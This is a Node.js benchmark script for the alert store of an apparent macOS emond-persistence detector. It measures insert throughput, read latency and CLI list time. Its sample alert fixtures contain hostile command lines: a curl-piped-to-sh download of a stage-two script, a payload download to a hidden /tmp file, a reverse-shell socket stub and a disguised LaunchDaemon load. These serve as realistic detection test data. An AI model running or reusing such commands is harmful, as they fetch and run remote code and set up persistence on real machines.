// Benchmark of the alert store (issue 4): inserts/s batched vs one transaction per alert, end-to-
// end latency from an alert entering the fan-out to its row being visible to another connection,
// and `emondguard alerts list --since 24h` on a database of 1 million alerts, through the built CLI.
// Prints one Markdown section on stdout; progress on stderr.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from 'node:worker_threads';
import { createAlertFanOut } from '../../dist/alerts/alert-fanout.js';
import { AlertStore } from '../../dist/storage/alert-store.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const cli = path.join(root, 'dist', 'cli', 'main.js');
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'emondguard-bench-store-'));
const log = (text) => process.stderr.write(`${text}\n`);
const GOALS = { insertsPerSecond: 50_000, p99VisibleMs: 50, listMs: 100 };
const RULE = { id: '3e3d15c6-1509-479a-b125-21718372157e', name: 'Suspicious Emond Child Process', max_signals: 100, interval: '5m', note: 'guide' };
const THREAT = [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0003', name: 'Persistence', reference: 'https://attack.mitre.org/tactics/TA0003/' }, technique: [{ id: 'T1546', name: 'Event Triggered Execution', reference: 'https://attack.mitre.org/techniques/T1546/', subtechnique: [{ id: 'T1546.014', name: 'Emond', reference: 'https://attack.mitre.org/techniques/T1546/014/' }] }] }];
// One rule block per rule shared by its alerts, as an alert builder reuses the compiled rule's.
const RULE_BLOCK = { id: RULE.id, name: RULE.name, version: 108, severity: 'medium', risk_score: 47, description: 'Identifies the execution of a suspicious child process of the Event Monitor Daemon (emond).', reference: ['https://www.xorrior.com/emond-persistence/'], author: ['Elastic'], license: 'Elastic License v2', ruleset: 'builtin' };
const PROGRAMS = [
  ['/bin/sh', ['sh', '-c', 'curl -fsSL http://203.0.113.7/stage2.sh | sh']],
  ['/usr/bin/curl', ['curl', '-o', '/tmp/.x', 'http://203.0.113.7/x']],
  ['/usr/bin/python3', ['python3', '-c', 'import socket,subprocess,os;s=socket.socket()']],
  ['/bin/launchctl', ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.apple.updater.plist']],
];

/** A realistic alert document (the shape buildAlert produces), unique per n. */
function alertDoc(n, timeMs, marker = String(n)) {
  const time = new Date(timeMs).toISOString();
  const [executable, baseArgs] = PROGRAMS[n % PROGRAMS.length];
  const args = [...baseArgs, marker];
  return {
    '@timestamp': time,
    event: { kind: 'alert', category: ['process'], type: ['start'], action: 'exec', module: 'endpoint-security', sequence: n, created: time, severity: 47, risk_score: 47 },
    host: { name: 'mac-bench-01', os: { type: 'macos', version: '14.6.1' } },
    process: {
      pid: 10_000 + (n % 50_000), entity_id: `${10_000 + (n % 50_000)}:${n}:${time}`, name: path.basename(executable), executable, args,
      args_count: args.length, command_line: args.join(' '), working_directory: '/',
      start: time, code_signature: { exists: true, signing_id: 'com.apple.sh', team_id: '', trusted: true },
      parent: { pid: 311, entity_id: '311:1:2025-08-01T00:00:00.000Z', name: 'emond', executable: '/sbin/emond', start: '2025-08-01T00:00:00.000Z' },
    },
    user: { id: '0', name: 'root' },
    group: { id: '0' },
    es: { message_version: 7, seq_num: n, global_seq_num: n, pidversion: n, ppid: 311, original_ppid: 311, parent_pidversion: 1, is_platform_binary: true, parent_resolution: 'tree' },
    rule: RULE_BLOCK,
    threat: THREAT,
    emondguard: { count: 1 },
  };
}

const fresh = (name) => {
  const file = path.join(work, name, 'alerts.db');
  return AlertStore.open(file);
};
const seconds = (start) => Number(process.hrtime.bigint() - start) / 1e9;
const fmt = (n, digits = 0) => n.toLocaleString('en-US', { maximumFractionDigits: digits, minimumFractionDigits: digits });
const pass = (ok) => (ok ? '✅ pass' : '❌ fail');
function percentile(sorted, p) {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

// ---------------------------------------------------------------- 1. inserts per second
/** Alerts/s committed 1,000 per transaction; only the commits are timed, not building documents. */
function batchedRate(synchronous, total) {
  const store = AlertStore.open(path.join(work, `batched-${synchronous}`, 'alerts.db'), { synchronous });
  let elapsed = 0;
  for (let i = 0; i < total; i += 1000) {
    const alerts = Array.from({ length: 1000 }, (_, j) => ({ document: alertDoc(i + j, Date.now()) }));
    const start = process.hrtime.bigint();
    store.commit({ alerts });
    elapsed += seconds(start);
  }
  store.close();
  return total / elapsed;
}

function insertRates() {
  log('inserts: one transaction per alert…');
  const single = fresh('single');
  const singleCount = 3000;
  const docs = Array.from({ length: singleCount }, (_, i) => alertDoc(i, Date.now()));
  const start = process.hrtime.bigint();
  for (const document of docs) single.commit({ alerts: [{ document }] });
  const perAlert = singleCount / seconds(start);
  single.close();

  const total = 200_000;
  log('inserts: batches of 1,000 per transaction…');
  const perBatch = batchedRate('full', total);
  log('inserts: batches of 1,000, synchronous = NORMAL (crash-safe, not power-cut-safe)…');
  const perBatchNormal = batchedRate('normal', total);

  log('inserts: through the fan-out (throttle off), 1,000 alerts per event-loop turn…');
  const fanStore = fresh('fanout');
  const fanOut = createAlertFanOut({ store: fanStore, throttle: false });
  const fanDocs = Array.from({ length: 1000 }, (_, j) => alertDoc(j, Date.now()));
  return new Promise((resolve) => {
    let sent = 0;
    const t0 = process.hrtime.bigint();
    const turn = () => {
      for (const document of fanDocs) fanOut.submit(document, RULE);
      sent += fanDocs.length;
      if (sent < total) setImmediate(turn);
      else {
        fanOut.close().then(() => {
          const viaFanOut = total / seconds(t0);
          const commits = fanOut.stats().store.commits;
          fanStore.close();
          resolve({ perAlert, perBatch, perBatchNormal, viaFanOut, commits, total, singleCount });
        });
      }
    };
    turn();
  });
}

// ---------------------------------------------------------------- 2. event in → visible to a reader
const READER = `
const { parentPort, workerData } = require('node:worker_threads');
const Database = require(workerData.sqlite);
const db = new Database(workerData.file, { readonly: true });
const next = db.prepare('SELECT id, json_extract(args, \\'$[#-1]\\') AS sent FROM alerts WHERE id > ? ORDER BY id');
let last = 0; const lat = [];
const poll = () => {
  const now = performance.timeOrigin + performance.now();
  for (const row of next.all(last)) { last = row.id; lat.push(now - Number(row.sent)); }
  if (lat.length >= workerData.expect) { db.close(); parentPort.postMessage(lat); } else setImmediate(poll);
};
poll();`;

async function latency(rate, durationS, synchronous) {
  log(`latency: ${fmt(rate)} alerts/s for ${durationS} s, synchronous = ${synchronous}…`);
  const store = AlertStore.open(path.join(work, `latency-${rate}-${synchronous}`, 'alerts.db'), { synchronous });
  const fanOut = createAlertFanOut({ store, throttle: false });
  const expected = Math.round(rate * durationS);
  const reader = new Worker(READER, {
    eval: true,
    workerData: { file: store.file, expect: expected, sqlite: path.join(root, 'node_modules', 'better-sqlite3') },
  });
  const done = new Promise((resolve) => reader.once('message', resolve));
  const t0 = performance.now();
  let sent = 0;
  await new Promise((resolve) => {
    const tick = () => {
      const due = Math.min(expected, Math.floor(((performance.now() - t0) / 1000) * rate));
      while (sent < due) {
        // The submit time rides in the last argument, so the reader needs no side channel.
        const at = performance.timeOrigin + performance.now();
        fanOut.submit(alertDoc(sent, Date.now(), String(at)), RULE);
        sent += 1;
      }
      if (sent < expected) setTimeout(tick, 0);
      else resolve();
    };
    tick();
  });
  const samples = (await done).sort((a, b) => a - b);
  const stats = fanOut.stats().store;
  await fanOut.close();
  store.close();
  await reader.terminate();
  return { rate, synchronous, n: samples.length, p50: percentile(samples, 50), p99: percentile(samples, 99), max: samples.at(-1), commits: stats.commits, largest: stats.largestBatch };
}

// ---------------------------------------------------------------- 3. alerts list on 1M alerts
function timeCommand(args, runs) {
  const times = [];
  let output = '';
  for (let i = 0; i < runs + 1; i++) {
    const start = process.hrtime.bigint();
    const result = spawnSync(process.execPath, args, { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, maxBuffer: 64 * 1024 * 1024 });
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    if (result.status !== 0) throw new Error(`${args.join(' ')} failed: ${result.stderr}`);
    output = result.stdout;
    if (i > 0) times.push(ms); // the first run warms the page cache
  }
  times.sort((a, b) => a - b);
  return { median: percentile(times, 50), min: times[0], output };
}

function listOnMillion() {
  const total = 1_000_000;
  const days = 30;
  log(`list: building a ${fmt(total)}-alert database over the last ${days} days…`);
  // Building the data set is set-up, not a measurement: skip the per-commit fsync.
  const store = AlertStore.open(path.join(work, 'million', 'alerts.db'), { synchronous: 'normal' });
  const now = Date.now();
  const step = (days * 86_400_000) / total;
  const t0 = process.hrtime.bigint();
  for (let i = 0; i < total; i += 5000) {
    const alerts = [];
    for (let j = i; j < i + 5000; j++) alerts.push({ document: alertDoc(j, now - (total - j) * step) });
    store.commit({ alerts });
    if (i % 200_000 === 0) log(`  ${fmt(i)}…`);
  }
  const buildS = seconds(t0);
  const inDay = store.count({ since: now - 86_400_000 });
  let start = process.hrtime.bigint();
  store.list({ since: Date.now() - 86_400_000, limit: 100 });
  const count = store.count({ since: Date.now() - 86_400_000 });
  const inProcessMs = seconds(start) * 1000;
  const sizeBytes = store.sizeBytes();
  store.close();

  log('list: timing the CLI…');
  const runs = 10;
  const db = store.file;
  const list24h = timeCommand([cli, 'alerts', 'list', '--since', '24h', '--db', db], runs);
  const listAll = timeCommand([cli, 'alerts', 'list', '--since', '30d', '--db', db], runs);
  const version = timeCommand([cli, '--version'], runs);
  const bare = timeCommand(['-e', '0'], runs);
  const rows = list24h.output.split('\n').filter((l) => /^\s*\d+ /.test(l)).length;
  return { total, buildS, inDay, count, inProcessMs, sizeBytes, list24h, listAll, version, bare, rows, runs };
}

// ---------------------------------------------------------------- report
try {
  const inserts = await insertRates();
  const latencies = [];
  for (const [rate, seconds] of [[100, 10], [10_000, 5]]) {
    for (const synchronous of ['full', 'normal']) latencies.push(await latency(rate, seconds, synchronous));
  }
  const list = listOnMillion();

  const out = [];
  out.push('## Alert store (`store`)');
  out.push('');
  out.push('Goals (issue 4): ≥ 50,000 alerts/s batched; p99 event-in → row visible to a reader < 50 ms; `alerts list --since 24h` on 1 M alerts < 100 ms.');
  const load = os.loadavg().map((l) => l.toFixed(2)).join(', ');
  out.push(`Load average when the report was written: ${load} on ${os.cpus().length} cores (other builds share this machine; compare rows of the same run).`);
  out.push('Writes use the production settings — WAL, the full schema and indexes, realistic ECS documents — with `synchronous = FULL` (the default: a committed alert survives a power cut) unless a row says NORMAL (survives a crash of the agent, not of the machine); ~1.3 KB of JSON per alert.');
  out.push('');
  out.push('### Inserts per second');
  out.push('');
  out.push('| how | alerts | alerts/s | vs one per transaction | goal |');
  out.push('| --- | ---: | ---: | ---: | --- |');
  out.push(`| one transaction per alert | ${fmt(inserts.singleCount)} | ${fmt(inserts.perAlert)} | 1.0× | |`);
  out.push(`| \`AlertStore.commit\`, 1,000 per transaction | ${fmt(inserts.total)} | ${fmt(inserts.perBatch)} | ${fmt(inserts.perBatch / inserts.perAlert, 1)}× | ${pass(inserts.perBatch >= GOALS.insertsPerSecond)} (≥ 50,000) |`);
  out.push(`| \`AlertStore.commit\`, 1,000 per transaction, \`synchronous = NORMAL\` | ${fmt(inserts.total)} | ${fmt(inserts.perBatchNormal)} | ${fmt(inserts.perBatchNormal / inserts.perAlert, 1)}× | ${pass(inserts.perBatchNormal >= GOALS.insertsPerSecond)} (≥ 50,000) |`);
  out.push(`| fan-out \`submit\` (writer batches per event-loop turn; ${fmt(inserts.commits)} commits) | ${fmt(inserts.total)} | ${fmt(inserts.viaFanOut)} | ${fmt(inserts.viaFanOut / inserts.perAlert, 1)}× | ${pass(inserts.viaFanOut >= GOALS.insertsPerSecond)} (≥ 50,000) |`);
  out.push('');
  out.push('### Event in → row visible to a reader (another connection, in a worker thread polling continuously)');
  out.push('');
  out.push('| rate | synchronous | alerts | p50 ms | p99 ms | max ms | commits | largest batch | goal p99 < 50 ms |');
  out.push('| ---: | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- |');
  for (const r of latencies) {
    out.push(`| ${fmt(r.rate)}/s | ${r.synchronous.toUpperCase()} | ${fmt(r.n)} | ${fmt(r.p50, 2)} | ${fmt(r.p99, 2)} | ${fmt(r.max, 1)} | ${fmt(r.commits)} | ${fmt(r.largest)} | ${pass(r.p99 < GOALS.p99VisibleMs)} |`);
  }
  out.push('');
  out.push(`### \`emondguard alerts list\` on ${fmt(list.total)} alerts`);
  out.push('');
  out.push(`Database: ${fmt(list.total)} alerts over 30 days (${fmt(list.inDay)} in the last 24 h), ${fmt(list.sizeBytes / 2 ** 20)} MiB, built in ${fmt(list.buildS, 1)} s (${fmt(list.total / list.buildS)} alerts/s). Each command run ${list.runs} times after a warm-up; wall time of the whole process, median (min).`);
  out.push('');
  out.push('| command | median ms | min ms | vs `node -e 0` | goal |');
  out.push('| --- | ---: | ---: | ---: | --- |');
  const row = (name, t, goal = '') => out.push(`| ${name} | ${fmt(t.median, 1)} | ${fmt(t.min, 1)} | +${fmt(t.median - list.bare.median, 1)} ms | ${goal} |`);
  row('`node -e 0` (Node start-up alone)', list.bare);
  row('`emondguard --version` (CLI start-up, no database)', list.version);
  row(`\`emondguard alerts list --since 24h\` (${list.rows} rows shown, total counted)`, list.list24h, `${pass(list.list24h.median < GOALS.listMs)} (< 100 ms)`);
  row('`emondguard alerts list --since 30d` (all 1 M match)', list.listAll);
  out.push('');
  out.push(`The query itself (list 100 newest of the last 24 h + count the matches, in process): ${fmt(list.inProcessMs, 1)} ms. ` +
    'The rest of the CLI time is starting Node and loading the CLI and SQLite, which `node -e 0` and `--version` measure on the same machine in the same run.');
  process.stdout.write(`${out.join('\n')}\n`);
} finally {
  fs.rmSync(work, { recursive: true, force: true });
}
